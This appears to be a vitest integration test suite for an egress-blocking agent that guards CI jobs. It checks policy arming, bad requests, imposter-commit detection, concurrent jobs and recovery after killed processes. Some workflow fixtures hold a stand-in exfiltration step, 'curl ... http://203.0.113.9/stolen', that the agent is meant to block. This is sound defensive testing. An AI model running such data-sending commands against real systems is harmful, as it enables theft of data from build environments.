import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { AgentRig } from './agent-rig.ts'
import {
  answers,
  askAgent,
  AskingJobs,
  begin,
  exited,
  nonce,
  ownGaps,
  whole,
} from './asking-jobs.ts'
import { until } from './runwarden.ts'

let jobs: AskingJobs
let rig: AgentRig
beforeAll(async () => {
  jobs = await AskingJobs.start()
  rig = jobs.rig
})
afterAll(() => jobs[Symbol.asyncDispose]())

test('an agent arms a job that asks it before its first step, reports, and leaves nothing behind', async () => {
  const { agent, socket, out } = await jobs.agentFor('first')
  const before = (await rig.lab.internet.records()).length
  const { cgroup, ended } = jobs.run(
    'first',
    socket,
    whole(rig.place.at('first/work'), 'one.example.com'),
    `      - id: fetch
        run: curl -sS https://one.example.com/allowed
      - id: thief
        run: curl -sS -m 20 http://203.0.113.9/stolen || echo refused
`,
  )
  const { stdout, status } = await ended
  expect(status).toBe(0)
  const [armed, now, reported, over] = answers(stdout)
  expect(armed).toMatchObject({
    ok: true,
    value: {
      identity: { repository: 'acme/app', job: 'build', runId: '1658821493' },
      egress: 'block',
      scope: 'job',
    },
  })
  expect(now).toMatchObject({ ok: true, value: { blocked: 0 } })
  expect(reported?.value?.folder).toMatch(/first-out\/jobs\//)
  expect(over).toEqual({ ok: true, value: {} })
  expect(stdout).toContain('refused')

  const { folder, report } = jobs.left(out)
  expect(folder).toBe(reported?.value?.folder)
  expect(statSync(folder).mode & 0o777).toBe(0o750)
  expect(report).toMatchObject({ egress: 'block', protection: 'armed' })
  expect(ownGaps(report.health.gaps)).toEqual([])
  const seen = report.destinations.map(({ host, address, verdict, processes }) => [
    host ?? address,
    verdict,
    processes[0]?.step,
  ])
  expect(seen).toContainEqual(['one.example.com', 'allowed', 'fetch'])
  expect(seen).toContainEqual(['203.0.113.9', 'blocked', 'thief'])
  const records = (await rig.lab.internet.records()).slice(before)
  expect(records.filter(({ address }) => address === '203.0.113.9')).toEqual([])
  expect(JSON.stringify(records)).toContain('/allowed')

  expect(await exited(agent)).toBe(0)
  expect(readdirSync(cgroup).filter((name) => name.startsWith('runwarden'))).toEqual([])
  expect(existsSync(rig.place.at('first-state/scopes'))).toBe(false)
}, 600_000)

test('what is no request is answered by why', async () => {
  const { agent, socket } = await jobs.agentFor('nonsense')
  const asked = ['nonsense', { op: 'steal' }, { op: 'end', nonce: '1' }, { op: 'end', nonce }]
  const { ended } = jobs.run('nonsense', socket, { main: asked }, '      - run: "true"\n')
  expect(answers((await ended).stdout)).toMatchObject([
    { code: 'BAD_REQUEST', message: expect.stringContaining('no JSON') },
    { code: 'BAD_REQUEST', message: expect.stringContaining("'op'") },
    { code: 'BAD_REQUEST', message: expect.stringContaining('hex') },
    { code: 'NO_JOB' },
  ])
  const { stdout } = await rig.lab.runner.exec(process.execPath, [askAgent, socket, 'nonsense'])
  expect(JSON.parse(stdout)).toMatchObject({ ok: false, code: 'NOT_A_STAGE' })
  expect(await agent.end('SIGTERM')).toBe(0)
}, 600_000)

test('a policy that cannot be read arms nothing, and says where', async () => {
  const { agent, socket } = await jobs.agentFor('bad')
  const { ended, cgroup } = jobs.run(
    'bad',
    socket,
    { pre: [begin(rig.place.at('bad/work'), ['one.example.com:port'])] },
    '      - run: curl -sS http://one.example.com/\n',
  )
  const { stdout } = await ended
  expect(answers(stdout)[0]).toMatchObject({
    ok: false,
    message: expect.stringContaining('the workflow:3'),
  })
  expect(readdirSync(cgroup).filter((name) => name.startsWith('runwarden'))).toEqual([])
  expect(await agent.end('SIGTERM')).toBe(0)
}, 600_000)

test('what the action has found out about pinned commits is told in the report', async () => {
  const { agent, socket, out } = await jobs.agentFor('imposter')
  const request = begin(rig.place.at('imposter/work'), [])
  const uses = `acme/tools@${'6'.repeat(40)}`
  Object.assign(request.job, { imposters: [{ uses, repository: 'acme/tools' }] })
  const asked = { ...whole(rig.place.at('imposter/work')), pre: [request] }
  const { ended } = jobs.run('imposter', socket, asked, '      - run: "true"\n')
  expect((await ended).status).toBe(0)
  const found = jobs.left(out).report.detections.find(({ id }) => id === 'imposter-commit')
  expect(found).toMatchObject({ severity: 'high', title: `${uses} is no commit of acme/tools` })
  expect(await exited(agent)).toBe(0)
}, 600_000)

test('two jobs at once have a policy each', async () => {
  const { agent, socket, out } = await jobs.agentFor('two')
  const meet = rig.place.at('meet')
  mkdirSync(meet)
  const job = (own: string, other: string) =>
    jobs.run(
      own,
      socket,
      whole(rig.place.at(`${own}/work`), `${own}.example.com:80`),
      `      - run: |
          touch ${meet}/${own}; while [ ! -e ${meet}/${other} ]; do sleep 0.1; done
          curl -sS -m 20 -o /dev/null -w '${own} %{http_code} ' http://${own}.example.com/
          curl -sS -m 20 http://${other}.example.com/ || echo refused
          touch ${meet}/${own}-over; while [ ! -e ${meet}/${other}-over ]; do sleep 0.1; done
`,
    ).ended
  const [one, two] = await Promise.all([job('one', 'two'), job('two', 'one')])
  for (const [name, { stdout, status }] of [
    ['one', one],
    ['two', two],
  ] as const) {
    expect(status).toBe(0)
    expect(stdout).toContain(`${name} 200`)
    expect(stdout).toContain('refused')
  }
  expect(await exited(agent)).toBe(0)
  expect(readdirSync(join(out, 'jobs'))).toHaveLength(2)
}, 600_000)
test('an agent that was killed is followed by one that goes on with the job', async () => {
  const { agent, socket, out } = await jobs.agentFor('killed')
  const at = (name: string): string => rig.place.at(name)
  const { ended } = jobs.run(
    'killed',
    socket,
    whole(at('killed/work'), 'one.example.com'),
    `      - id: before
        run: touch ${at('begun')}; while [ ! -e ${at('again')} ]; do sleep 0.1; done
      - id: after
        run: curl -sS -m 20 https://one.example.com/; curl -sS -m 20 http://203.0.113.9/stolen || echo refused
`,
  )
  await until(() => existsSync(at('begun')))
  await agent.end('SIGKILL')
  const next = rig.spawn('--socket', socket, '--out', out, '--state', at('killed-state'))
  await next.says('armed, block')
  await until(() => existsSync(socket))
  writeFileSync(at('again'), '')
  const { stdout, status } = await ended
  expect(status).toBe(0)
  const [, , reported, over] = answers(stdout)
  expect(reported).toMatchObject({ ok: true })
  expect(JSON.stringify(reported?.value)).toContain("an earlier agent's policy was in force")
  expect(over).toEqual({ ok: true, value: {} })
  expect(stdout).toContain('refused')
  expect(await exited(next)).toBe(0)
}, 600_000)

test('a job whose runner is killed ends with its report, and so does the agent', async () => {
  const { agent, socket, out } = await jobs.agentFor('gone')
  const { cgroup, ended } = jobs.run(
    'gone',
    socket,
    whole(rig.place.at('gone/work')),
    `      - run: touch ${rig.place.at('working')}; sleep 1000\n`,
  )
  await until(() => existsSync(rig.place.at('working')))
  const own = readdirSync(cgroup).find((name) => name.startsWith('runwarden')) ?? ''
  const worker = readFileSync(join(cgroup, own, 'cgroup.procs'), 'utf8')
    .split('\n')
    .filter(Boolean)
    .find((pid) => readFileSync(`/proc/${pid}/comm`, 'utf8').startsWith('Runner.Worker'))
  process.kill(Number(worker), 'SIGKILL')
  await ended
  expect(await exited(agent)).toBe(0)
  expect(jobs.left(out).report.protection).toBe('armed')
  for (const pid of readFileSync(join(cgroup, 'cgroup.procs'), 'utf8').split('\n').filter(Boolean))
    process.kill(Number(pid), 'SIGKILL')
}, 600_000)
